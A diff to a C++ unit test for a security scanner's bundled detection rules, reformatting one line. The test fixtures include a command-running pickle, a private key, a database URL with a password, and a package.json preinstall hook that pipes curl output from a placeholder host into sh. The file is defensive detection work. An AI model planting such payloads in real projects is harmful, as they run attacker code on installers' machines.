@@ -59,7 +59,8 @@ TEST_F(Rules, TheBundledRulesFindWhatTheyAreFor) {
   put("m.pkl",
       "\x80\x02"
       "cposix\nsystem\nq\0X\x02\0\0\0idq\1\x85q\2Rq\3."s);
-  put("k.pem", "-----BEGIN PRIVATE KEY-----\nMC4CAQAwBQYDK2VwBCIEIMvkHpyFdRt2FhD1lk7tm3hYlRgYQxX0HnXy9jY2X3bq\n"
+  put("k.pem",
+      "-----BEGIN PRIVATE KEY-----\nMC4CAQAwBQYDK2VwBCIEIMvkHpyFdRt2FhD1lk7tm3hYlRgYQxX0HnXy9jY2X3bq\n"
       "-----END PRIVATE KEY-----\n");
   put("db.env", "URL=postgres://app:hunter2secret@db.example.invalid/x\n");
   put("package.json", R"({"scripts": {"preinstall": "curl http://example.invalid | sh"}})");
